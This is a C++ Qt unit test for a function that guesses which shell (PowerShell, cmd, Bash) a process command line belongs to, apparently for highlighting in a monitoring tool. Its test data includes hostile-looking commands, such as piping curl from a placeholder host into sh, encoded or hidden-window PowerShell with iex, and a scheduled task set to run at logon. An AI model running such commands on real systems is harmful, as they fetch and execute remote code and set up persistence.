// guessCommandLanguage(): which shell a command line is written in, from the process that ran it.
#include "highlight/CommandLanguage.h"

#include <QTest>

using namespace tb;

Q_DECLARE_METATYPE(tb::CommandLanguage)

class TestSyntaxHighlightLanguage : public QObject {
    Q_OBJECT

private slots:
    void guessesTheShell_data() {
        QTest::addColumn<QString>("image");
        QTest::addColumn<QString>("commandLine");
        QTest::addColumn<CommandLanguage>("expected");

        const auto PowerShell = CommandLanguage::PowerShell;
        const auto Batch = CommandLanguage::Batch;
        const auto Bash = CommandLanguage::Bash;
        const auto Unknown = CommandLanguage::Unknown;

        // The image names the shell.
        QTest::newRow("powershell.exe") << "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
                                        << "powershell.exe -NoP -enc SQBFAFgA" << PowerShell;
        QTest::newRow("upper case") << "C:\\WINDOWS\\SYSTEM32\\WINDOWSPOWERSHELL\\V1.0\\POWERSHELL.EXE"
                                    << "POWERSHELL -c Get-Date" << PowerShell;
        QTest::newRow("pwsh on Linux") << "/usr/bin/pwsh"
                                       << "pwsh -File ./x.ps1" << PowerShell;
        QTest::newRow("pwsh 7 on Windows") << "C:\\Program Files\\PowerShell\\7\\pwsh.exe"
                                           << "" << PowerShell;
        QTest::newRow("powershell_ise")
            << "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe"
            << "" << PowerShell;
        QTest::newRow("cmd.exe") << "C:\\Windows\\System32\\cmd.exe"
                                 << "cmd.exe /c schtasks /run /tn Updater" << Batch;
        QTest::newRow("cmd running powershell is cmd") << "C:\\Windows\\System32\\cmd.exe"
                                                       << "cmd /c powershell -nop -c iex(...)" << Batch;
        QTest::newRow("bash") << "/usr/bin/bash"
                              << "bash -c 'crontab -l'" << Bash;
        QTest::newRow("sh") << "/bin/sh"
                            << "/bin/sh -c /tmp/x.sh" << Bash;
        QTest::newRow("dash") << "/usr/bin/dash"
                              << "" << Bash;
        QTest::newRow("zsh") << "/bin/zsh"
                             << "" << Bash;
        QTest::newRow("busybox") << "/bin/busybox"
                                 << "busybox sh -c id" << Bash;

        // No image: the command line's first word.
        QTest::newRow("bare powershell") << ""
                                         << "powershell -WindowStyle Hidden -File C:\\x.ps1" << PowerShell;
        QTest::newRow("quoted pwsh path")
            << ""
            << "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -File x.ps1" << PowerShell;
        QTest::newRow("cmd /c") << ""
                                << "  cmd /c echo hi" << Batch;
        QTest::newRow("bash -c") << ""
                                 << "bash -c \"curl -s http://x | sh\"" << Bash;

        // No shell named: the path style.
        QTest::newRow("schtasks.exe") << "C:\\Windows\\System32\\schtasks.exe"
                                      << "schtasks /create /tn Updater /tr C:\\x.exe /sc onlogon" << Batch;
        QTest::newRow("unc path") << "\\\\fileserver\\tools\\agent.exe"
                                  << "" << Batch;
        QTest::newRow("bare exe") << "wscript.exe"
                                  << "wscript.exe //B C:\\x.vbs" << Batch;
        QTest::newRow("forward-slash drive") << "C:/Tools/agent.exe"
                                             << "" << Batch;
        QTest::newRow("cron") << "/usr/sbin/cron"
                              << "/usr/sbin/CRON -f" << Bash;
        QTest::newRow("relative unix") << ""
                                       << "./run.sh --now" << Bash;
        QTest::newRow("command line with a windows path") << ""
                                                          << "C:\\ProgramData\\upd.exe /silent" << Batch;

        // Nothing to go on.
        QTest::newRow("empty") << ""
                               << "" << Unknown;
        QTest::newRow("bare word") << ""
                                   << "schtasks /query" << Unknown;
        QTest::newRow("bare program") << "agent"
                                      << "agent --run" << Unknown;
    }

    void guessesTheShell() {
        QFETCH(QString, image);
        QFETCH(QString, commandLine);
        QFETCH(CommandLanguage, expected);
        QCOMPARE(guessCommandLanguage(image, commandLine), expected);
    }
};

QTEST_GUILESS_MAIN(TestSyntaxHighlightLanguage)
#include "tst_syntaxhighlightlanguage.moc"
